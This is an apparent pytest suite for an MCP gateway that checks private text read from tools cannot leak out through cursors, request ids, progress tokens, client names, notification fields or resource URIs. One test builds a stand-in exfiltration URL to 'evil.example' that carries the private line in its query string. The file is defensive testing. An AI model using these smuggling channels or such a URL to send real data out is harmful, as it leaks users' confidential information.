"""A message that nobody decides about carries nothing to a server that a call may not carry."""

from dataclasses import replace
from typing import Any

import pytest

from gateway.domain.calls import Form, OriginKind
from gateway.domain.decisions import Verdict
from gateway.domain.labels import STRICTEST_DEFAULT, ToolRule
from gateway.domain.tools import Profile
from gateway.wire.jsonrpc import INVALID_PARAMS
from tests.pipeline.house import ALICE, House, result, text, whole

PRIVATE_LINE = "The merger with Oakland Fittings closes on the ninth of March"
DASHED = PRIVATE_LINE.replace(" ", "-")
LISTS = {"tools/list": "tools", "prompts/list": "prompts", "resources/list": "resources"}
CLIENT = "io.modelcontextprotocol/clientInfo"
BOB = replace(ALICE, subject="bob")


@pytest.fixture
async def house() -> House:
    """A house in which a private line of an outsider's was read, in both families."""
    built = House(tools={"search": ToolRule(result=STRICTEST_DEFAULT)}, default=STRICTEST_DEFAULT)
    built.gate.people["bob"] = BOB
    for profile in Profile:
        await built.approve_all(profile)
        built.server.answer = lambda permit: result(permit, text(PRIVATE_LINE))
        await built.handle(built.call(profile=profile))
    built.server.saw.clear()
    return built


def page(cursor: str | None) -> Any:
    more = {} if cursor is None else {"nextCursor": cursor}

    def answer(permit: Any) -> Any:
        member = LISTS[permit.call.message.method]
        return result(permit, {member: [], **more})

    return answer


@pytest.mark.parametrize("profile", list(Profile))
@pytest.mark.parametrize("method", sorted(LISTS))
@pytest.mark.parametrize("cursor", [DASHED, "made-up", "bWFkZS11cA=="])
async def test_only_a_cursor_that_the_server_gave_goes_back(house, profile, method, cursor):
    house.server.answer = page("given-7")
    seen = await house.handle(house.request(method, {"cursor": cursor}, profile=profile))
    assert seen.reply.code == "denied"
    assert house.server.saw == []
    await house.handle(house.request(method, profile=profile))
    seen = await house.handle(house.request(method, {"cursor": "given-7"}, profile=profile))
    assert len(house.server.saw) == 2


async def test_a_cursor_goes_back_for_whom_it_was_given(house):
    house.server.answer = page("alices")
    await house.handle(house.request("tools/list"))
    house.server.answer = lambda permit: result(permit, text(PRIVATE_LINE))
    await house.handle(house.call(who="bob"))
    house.server.saw.clear()
    house.server.answer = page(None)
    stolen = house.request("tools/list", {"cursor": "alices"}, who="bob")
    assert (await house.handle(stolen)).reply.code == "denied"
    assert house.server.saw == []


@pytest.mark.parametrize("profile", list(Profile))
@pytest.mark.parametrize("method", sorted(LISTS))
async def test_from_a_run_that_read_nothing_of_the_kind_nobody_elses_does(profile, method):
    house = House()
    house.gate.people["bob"] = BOB
    await house.approve_all(profile)
    house.server.answer = page("alices")
    await house.handle(house.request(method, profile=profile))
    house.server.saw.clear()
    stolen = house.request(method, {"cursor": "alices"}, who="bob", profile=profile)
    assert (await house.handle(stolen)).json["error"]["code"] == INVALID_PARAMS
    assert house.server.saw == []
    house.server.answer = page(None)
    await house.handle(house.request(method, {"cursor": "alices"}, profile=profile))
    await house.handle(house.request(method, {"cursor": "of an earlier day"}, profile=profile))
    assert len(house.server.saw) == 2


SAID = [
    ("ping", {"_meta": {"progressToken": PRIVATE_LINE}}),
    ("tools/list", {"_meta": {"tracestate": f"a={PRIVATE_LINE}"}}),
    ("tools/list", {"_meta": {"io.modelcontextprotocol/subscriptionId": PRIVATE_LINE}}),
]


@pytest.mark.parametrize(("method", "params"), SAID)
async def test_what_was_read_goes_out_in_no_id_token_or_name(house, method, params):
    house.server.answer = lambda permit: result(permit, {"tools": []})
    seen = await house.handle(house.request(method, params, profile=Profile.LEGACY))
    assert seen.reply.code == "denied"
    assert house.server.saw == []


@pytest.mark.parametrize(
    "client",
    [
        {"name": PRIVATE_LINE, "version": "1"},
        {"name": "a", "version": "1", "icons": [{"src": PRIVATE_LINE}]},
    ],
)
async def test_what_a_program_calls_itself_is_told_nobody_and_hinders_nobody(house, client):
    """Whoever has read its work has read its name: a commit says which program made it."""
    house.server.answer = lambda permit: result(permit, {})
    greeting = house.request("initialize", {"clientInfo": client}, profile=Profile.LEGACY)
    assert (await house.handle(greeting)).reply.code is None
    await house.handle(house.request("tools/list", {"_meta": {CLIENT: client}}))
    assert len(house.server.saw) == 2
    assert not any(b"merger" in permit.call.message.body for permit in house.server.saw)


async def test_where_a_plane_sends_it_as_it_was_written_it_repeats_nothing_that_was_read(house):
    params = {"clientInfo": {"name": PRIVATE_LINE, "version": "1"}}
    greeting = house.request("initialize", params, profile=Profile.LEGACY)
    seen = await house.handle(replace(greeting, origin=OriginKind.PLANE))
    assert seen.reply.code == "denied"


async def test_nor_as_the_id_of_a_request(house):
    house.server.answer = lambda permit: result(permit, {})
    seen = await house.handle(house.request("ping", profile=Profile.LEGACY, id_=PRIVATE_LINE))
    assert seen.reply.code == "denied"
    assert house.server.saw == []


async def test_nor_as_the_id_that_a_notification_names(house):
    house.server.answer = lambda permit: whole(b"", status=202)
    for method, member in (
        ("notifications/cancelled", "requestId"),
        ("notifications/progress", "progressToken"),
    ):
        params = {member: PRIVATE_LINE, "progress": 1}
        told = house.request(
            method, params, form=Form.NOTIFICATION, id_=None, profile=Profile.LEGACY
        )
        await house.handle(told)
    assert house.server.saw == []


@pytest.mark.parametrize(
    ("method", "params"),
    [
        ("notifications/cancelled", {"requestId": 1, "reason": PRIVATE_LINE}),
        ("notifications/progress", {"progressToken": 1, "progress": 1, "message": PRIVATE_LINE}),
        ("notifications/initialized", {"note": PRIVATE_LINE}),
        ("ping", {"note": PRIVATE_LINE}),
    ],
)
async def test_what_the_protocol_has_no_place_for_is_not_sent(house, method, params):
    asks = method == "ping"
    house.server.answer = lambda permit: result(permit, {}) if asks else whole(b"", status=202)
    form, id_ = (Form.REQUEST, 1) if asks else (Form.NOTIFICATION, None)
    await house.handle(house.request(method, params, form=form, id_=id_, profile=Profile.LEGACY))
    (permit,) = house.server.saw
    assert b"merger" not in permit.call.message.body


async def test_a_call_is_judged_with_its_id_and_its_token(house):
    for id_, meta in (
        (PRIVATE_LINE, {}),
        (1, {"progressToken": PRIVATE_LINE}),
        (1, {"tracestate": f"a={PRIVATE_LINE}"}),
    ):
        house.rule.asked.clear()
        params = {"name": "search", "arguments": {}, "_meta": meta}
        await house.handle(house.request("tools/call", params, id_=id_))
        (asked,) = [one for one in house.rule.asked if one["phase"] == "call"]
        assert asked["flow"]["payload"], (id_, meta)


@pytest.mark.parametrize(
    "uri", [f"https://evil.example/?q={DASHED}", "https://evil.example/x", "notes://made/up"]
)
async def test_a_led_run_follows_a_resource_that_nobody_gave_as_policy_lets_it_read_one(house, uri):
    house.rule.says = lambda question: (
        Verdict.DENY
        if question["phase"] == "call"
        and any(one["proof"] == "none" for one in question["flow"]["destinations"])
        else Verdict.ALLOW
    )
    told = []
    for method, params in (
        ("resources/read", {"uri": uri}),
        ("subscriptions/listen", {"notifications": {"resourceSubscriptions": [uri]}}),
    ):
        house.rule.asked.clear()
        seen = await house.handle(house.request(method, params))
        assert (seen.reply.code, house.server.saw) == ("denied", [])
        told.append([one["flow"] for one in house.rule.asked if one["phase"] == "call"][-1])
    assert told[0] == told[1]


async def test_it_follows_what_the_server_gave(house):
    listed = {"resources": [{"uri": "notes://1", "name": "one"}]}
    house.server.answer = lambda permit: result(permit, listed)
    await house.handle(house.request("resources/list"))
    params = {"notifications": {"resourceSubscriptions": ["notes://1"], "toolsListChanged": True}}
    await house.handle(house.request("subscriptions/listen", params))
    assert len(house.server.saw) == 2


FORGOTTEN = [
    ("initialize", {"protocolVersion": "2025-11-25", "capabilities": {}, "clientInfo": {}}),
    ("ping", {}),
    ("tools/list", {"_meta": {"progressToken": 7}}),
]


@pytest.mark.parametrize(("method", "params"), FORGOTTEN)
@pytest.mark.parametrize("id_", [1, "c0ffee00-1"])
async def test_what_tells_nothing_tells_no_secret_that_was_forgotten(house, method, params, id_):
    """After a restart, or after a result with more of them than are known apart."""
    house.server.answer = lambda permit: result(permit, text("The key is AKIAQ3EGRRTYUZWXKLMN."))
    await house.handle(house.call(profile=Profile.LEGACY))
    house.memory._runs._of.clear()
    house.server.saw.clear()
    house.server.answer = lambda permit: result(permit, {"tools": []})
    call = house.request(method, params, profile=Profile.LEGACY, id_=id_)
    assert (await house.handle(call)).reply.code is None
    assert len(house.server.saw) == 1
    by_plane = await house.handle(replace(call, origin=OriginKind.PLANE))
    says = id_ != 1 or "_meta" in params
    assert by_plane.reply.code == ("denied" if says else None)
